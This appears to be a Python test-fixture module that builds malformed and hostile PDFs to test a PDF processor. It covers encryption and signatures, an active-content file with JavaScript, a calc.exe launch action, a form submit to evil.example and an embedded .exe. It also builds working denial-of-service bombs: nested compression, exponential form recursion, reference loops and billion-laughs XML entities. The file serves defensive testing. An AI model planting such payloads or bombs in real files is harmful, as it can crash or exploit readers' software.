"""PDFs made for the tests: one for every refusal, for every kind of active content, and for every bomb."""

import io
import itertools
import re
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

A4 = (595.0, 842.0)


def pdf_with(pages=1, text="The parties agree as follows.", size=A4):
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=size)
        page.obj.Resources = Dictionary(Font=Dictionary(F=font))
        content = f"BT /F 14 Tf 72 {size[1] - 100} Td ({text} Page {number}.) Tj ET 72 300 200 40 re S"
        page.obj.Contents = pdf.make_stream(content.encode())
    return pdf


def saved(pdf, **options):
    output = io.BytesIO()
    pdf.save(output, **options)
    return output.getvalue()


def plain(pages=1):
    return saved(pdf_with(pages))


def protected():
    return saved(pdf_with(), encryption=pikepdf.Encryption(user="open sesame", owner="owner"))


def restricted():
    return saved(pdf_with(), encryption=pikepdf.Encryption(user="", owner="owner"))


def cut_off():
    content = plain(4)
    return content[: len(content) * 2 // 3]


def garbled():
    return b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF\n"


def wrong_index():
    content = plain(2)
    at = content.rindex(b"startxref")
    return content[:at] + b"startxref\n7\n%%EOF\n"


def signed():
    pdf = pdf_with()
    value = Dictionary(
        Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=Array([0, 1, 2, 3]), Contents=String("x")
    )
    field = Dictionary(
        FT=Name.Sig, T=String("S"), Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 0, 0])
    )
    field.V = pdf.make_indirect(value)
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), SigFlags=3)
    return saved(pdf)


def signed_behind_a_wrong_index():
    """The signature is in the bytes, but no object leads to it."""
    content = plain()
    at = content.index(b"\n1 0 obj")
    return content[:at] + b"\n% 99 0 obj <</Type/Sig /ByteRange [0 10 20 30]>>" + content[at:]


def dynamic_form():
    pdf = pdf_with(text="Please wait...")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    pdf.Root.NeedsRendering = True
    return saved(pdf)


def without_pages():
    pdf = pikepdf.new()
    return saved(pdf)


def filled_form():
    pdf = pdf_with()
    helvetica = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("Hilda Berg"),
            DA=String("/Helv 12 Tf 0 g"),
            Rect=Array([72, 500, 300, 520]),
            F=4,
        )
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), DR=Dictionary(Font=Dictionary(Helv=helvetica)), DA=String("/Helv 12 Tf 0 g")
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.generate_appearance_streams()
    return saved(pdf)


def active():
    """One of everything that acts or hides."""
    pdf = pdf_with(2)
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    launch = Dictionary(S=Name.Launch, F=String("calc.exe"))
    submit = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 300, 272, 340]))
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(2)"), Next=launch)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), pdf.make_indirect(script)])))
    pdf.pages[0].obj.AA = Dictionary(O=pdf.make_indirect(launch))
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(**{str(k)[1:]: v for k, v in link.items()}, A=pdf.make_indirect(submit))
            ),
            pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([10, 10, 50, 50]), F=4)
            ),
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([72, 100, 272, 140]),
                    A=Dictionary(S=Name.URI, URI=String("https://example.org/")),
                )
            ),
        ]
    )
    pdf.attachments["secret.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ", filename="secret.exe")
    picture = pdf.make_stream(b"\x00" * 4)
    picture.Type, picture.Subtype, picture.Width, picture.Height = Name.XObject, Name.Image, 2, 2
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceGray, 8
    picture.Alternates = Array([Dictionary(Image=picture, DefaultForPrinting=True)])
    pdf.pages[1].obj.Resources.XObject = Dictionary(P=picture)
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Print only")))
    pdf.Root.OCProperties = Dictionary(
        OCGs=Array([layer]),
        D=Dictionary(Order=Array([layer]), AS=Array([Dictionary(Event=Name.Print, OCGs=Array([layer]))])),
    )
    return saved(pdf)


def polyglot():
    return b"#!/bin/sh\nexit\n" + plain() + b"PK\x03\x04 a second file behind the first"


def commented():
    pdf = pdf_with()
    square = pdf.make_stream(b"1 0 0 rg 0 0 100 50 re f")
    square.Type, square.Subtype, square.BBox = Name.XObject, Name.Form, Array([0, 0, 100, 50])
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Square,
                    Rect=Array([72, 400, 172, 450]),
                    AP=Dictionary(N=square),
                    F=4,
                )
            )
        ]
    )
    return saved(pdf)


# --- bombs --------------------------------------------------------------------------------------------------------


def flate_bomb():
    """Half a gigabyte of content in little, three times deflated."""
    pdf = pdf_with()
    content = pikepdf.Stream(pdf, zlib.compress(b"0 0 m " * (1 << 20)), Filter=Name.FlateDecode)
    packed = zlib.compress(zlib.compress(zlib.compress(b"\n" * (1 << 29), 1), 9), 9)
    stream = pikepdf.Stream(pdf, packed)
    stream.Filter = Array([Name.FlateDecode] * 3)
    pdf.pages[0].obj.Contents = Array([pdf.make_indirect(stream), pdf.make_indirect(content)])
    return saved(pdf, compress_streams=False)


def form_recursion():
    """Forms that draw the next one many times: 40 to the power of 8 drawings."""
    pdf = pdf_with()
    inner = pdf.make_stream(b"0 0 m 600 800 l S")
    for _ in range(8):
        outer = pdf.make_stream(b"/F Do " * 40)
        for each in (inner, outer):
            each.Type, each.Subtype, each.BBox = Name.XObject, Name.Form, Array([0, 0, 595, 842])
        outer.Resources = Dictionary(XObject=Dictionary(F=inner))
        inner = outer
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(F=inner))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"/F Do")
    return saved(pdf)


def page_loop():
    """A page tree that contains itself."""
    content = plain(1)
    return content.replace(b"/Kids [ ", b"/Kids [ 2 0 R ", 1)


def picture_bomb():
    """A picture that claims fifty thousand pixels squared."""
    pdf = pdf_with()
    picture = pdf.make_stream(zlib.compress(b"\x00" * (1 << 20)))
    picture.Type, picture.Subtype, picture.Width, picture.Height = Name.XObject, Name.Image, 50_000, 50_000
    picture.ColorSpace, picture.BitsPerComponent, picture.Filter = Name.DeviceRGB, 8, Name.FlateDecode
    pdf.pages[0].obj.Resources.XObject = Dictionary(P=picture)
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q 500 0 0 700 40 40 cm /P Do Q")
    return saved(pdf, compress_streams=False)


def endless_shading():
    """A function-based pattern that is evaluated for ever."""
    pdf = pdf_with()
    program = b"{ " + b"dup mul sin " * 20_000 + b" 0 0 }"
    function = pdf.make_stream(program)
    function.FunctionType, function.Domain, function.Range = 4, Array([0, 1, 0, 1]), Array([0, 1, 0, 1, 0, 1])
    shading = Dictionary(
        ShadingType=1, ColorSpace=Name.DeviceRGB, Function=function, Matrix=Array([595, 0, 0, 842, 0, 0])
    )
    pdf.pages[0].obj.Resources.Shading = Dictionary(S=shading)
    pdf.pages[0].obj.Contents = pdf.make_stream(b"/S sh " * 500)
    return saved(pdf)


def deep_nesting():
    """A hundred thousand arrays inside each other."""
    content = plain()
    return content.replace(
        b"/Type /Catalog", b"/Deep " + b"[" * 100_000 + b"]" * 100_000 + b" /Type /Catalog", 1
    )


def index_loop():
    """An index whose predecessor is itself."""
    content = saved(pdf_with(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    at = content[content.rindex(b"startxref") :].split()[1]
    return content.replace(b"trailer <<", b"trailer << /Prev " + at, 1)


def object_loop():
    """A store of objects that extends itself, and a stream that says of itself how long it is."""
    content = saved(pdf_with(), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    number = re.search(rb"(\d+) 0 obj\n<<[^>]*/ObjStm", content)[1]
    looped = content.replace(b"/ObjStm", b"/ObjStm /Extends " + number + b" 0 R", 1)
    return looped.replace(
        b"startxref", b"99 0 obj\n<< /Length 99 0 R >>\nstream\nx\nendstream\nendobj\nstartxref"
    )


def metadata_entities():
    """XMP that would grow to a gigabyte, ten entities of ten entities nine times."""
    names = [f"e{number}" for number in range(10)]
    grown = [f"<!ENTITY {name} '{f'&{of};' * 10}'>" for of, name in itertools.pairwise(names)]
    pdf = pdf_with()
    text = f"<!DOCTYPE x [<!ENTITY e0 'aaaaaaaaaa'>{''.join(grown)}]><x:xmpmeta xmlns:x='adobe:ns:meta/'>&e9;</x:xmpmeta>"
    pdf.Root.Metadata = pdf.make_stream(text.encode())
    pdf.Root.Metadata.Type, pdf.Root.Metadata.Subtype = Name.Metadata, Name.XML
    return saved(pdf)


BOMBS = (
    flate_bomb,
    form_recursion,
    page_loop,
    picture_bomb,
    endless_shading,
    deep_nesting,
    index_loop,
    object_loop,
    metadata_entities,
)
